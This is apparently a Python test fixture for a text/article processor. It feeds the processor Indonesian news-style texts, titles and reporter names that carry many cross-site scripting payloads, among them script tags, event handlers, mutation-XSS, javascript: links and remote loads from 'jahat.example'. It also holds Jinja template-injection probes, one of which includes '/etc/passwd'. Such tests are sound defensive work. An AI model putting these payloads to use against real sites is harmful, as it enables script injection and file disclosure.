"""Active content in text pages: it is text, and stands as it was printed."""

from __future__ import annotations

from tests.hostile.inputs import ARTICLE, KENA, Input, headline, text, texts

_PAYLOADS = (
    ("skrip", f"<script>{KENA}</script>"),
    ("skrip-besar", f"<ScRiPt >{KENA}</sCrIpT\t>"),
    ("skrip-jauh", "<script src=//jahat.example/x.js></script>"),
    ("gambar", f'<img src=x onerror="{KENA}">'),
    ("gambar-miring", f"<img/src=x/onerror={KENA}//"),
    ("svg", f"<svg/onload={KENA}>"),
    ("svg-dalam", f"<svg><script>{KENA}</script><animate onbegin={KENA} attributeName=x dur=1s></svg>"),
    ("mathml", f'<math><mi xlink:href="javascript:{KENA}">klik</mi></math>'),
    ("mutasi", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={KENA}&gt;">'),
    ("mutasi-noscript", f'<noscript><p title="</noscript><img src=x onerror={KENA}>">'),
    ("templat", f"<template><img src=x onerror={KENA}></template>"),
    ("bingkai", f'<iframe srcdoc="<script>parent.{KENA}</script>"></iframe>'),
    ("objek", f'<object data="javascript:{KENA}"></object><embed src="javascript:{KENA}">'),
    ("formulir", f'<form action="javascript:{KENA}"><button>kirim</button></form>'),
    ("rincian", f"<details open ontoggle={KENA}>"),
    ("fokus", f'<input autofocus onfocus="{KENA}">'),
    ("gaya", '<p style="width:expression(window.kena=1);background:url(javascript:window.kena=1)">'),
    ("gaya-lembar", "<style>@import 'https://jahat.example/x.css';</style>"),
    ("dasar", '<base href="https://jahat.example/">'),
    ("segarkan", f'<meta http-equiv="refresh" content="0;url=javascript:{KENA}">'),
    ("komentar", f"<!-- <script>{KENA}</script>"),
    ("komentar-pendek", f"<!--> <script>{KENA}</script> --!>"),
    ("cdata", f"<![CDATA[ <script>{KENA}</script> ]]>"),
    ("instruksi", f"<?xml version='1.0'?><?php {KENA} ?>"),
    ("entitas", f"&lt;script&gt;{KENA}&lt;/script&gt;"),
    ("entitas-angka", f"&#60;script&#62;{KENA}&#x3c;/script&#x3e;"),
    ("entitas-dua", f"&amp;lt;script&amp;gt;{KENA}&amp;lt;/script&amp;gt;"),
    ("tautan-md", f"[klik](javascript:{KENA})"),
    ("tautan-data", "[klik](data:text/html;base64,PHNjcmlwdD4) dan ![x](vbscript:msgbox)"),
    ("tautan-otomatis", f"<javascript:{KENA}> dan <data:text/html,x>"),
    ("tautan-html", f'<a href="java&#10;script:{KENA}" onclick="{KENA}">klik</a>'),
    ("jinja", "{{ 7*7 }} {% include '/etc/passwd' %} {# hilang #} {{ config.items() }}"),
    ("jinja-lari", "{% endraw %}{{ ''.__class__.__mro__ }}{% raw %}"),
    ("penutup", f"</p></div></main></body></html><script>{KENA}</script>"),
    ("penutup-judul", f"</title></textarea></style></script><img src=x onerror={KENA}>"),
)

_TITLES = (
    ("skrip", f"Warga Melati Tulis <script>{KENA}</script> di Papan"),
    ("kutip", f"Warga Kenanga \"><img src=x onerror={KENA}> Tulis Spanduk '"),
    ("entitas", f"Warga Seroja Baca &lt;img src=x onerror={KENA}&gt; di Koran"),
    ("entitas-dua", "Warga Anggrek Baca &amp;lt;script&amp;gt; di Koran Dinding"),
    ("penutup", f"Warga Soka </title><script>{KENA}</script> Antre Beras"),
    ("json", f"Warga Dahlia </script><script>{KENA}</script> Antre Minyak"),
    ("jinja", "Warga Teratai Hitung {{ 7*7 }} {% include 'x' %} Kursi"),
    ("cdata", f"Warga Kamboja ]]> <svg onload={KENA}> Antre Gula"),
    ("atribut", f'Warga Bugenvil " onmouseover="{KENA}" x=" Lihat Pameran'),
)

_PEOPLE = (f"<img src=x onerror={KENA}>", f'Rara "onclick={KENA} Contoh', "{{ 7*7 }}", "</script>Rara Contoh")


def inputs() -> list[Input]:
    spoken = [(name, f"Di papan itu tertulis {payload} kata Rara Contoh kepada warga.") for name, payload in _PAYLOADS]
    opened = [
        (f"awal-{name}", f"{payload} begitulah tulisan yang dibaca Tono Teladan di papan balai itu.")
        for name, payload in _PAYLOADS[::3]
    ]
    titles = [
        Input(f"aktif/judul-{name}.txt", text(f"judul {name}", title=title).encode(), ARTICLE, (title,))
        for name, title in _TITLES
    ]
    people = [
        Input(f"aktif/orang-{n}.txt", text(f"orang {n}", reporter=name).encode(), ARTICLE, (headline(f"orang {n}"),))
        for n, name in enumerate(_PEOPLE)
    ]
    return [*texts("aktif", spoken), *texts("aktif", opened), *titles, *people]
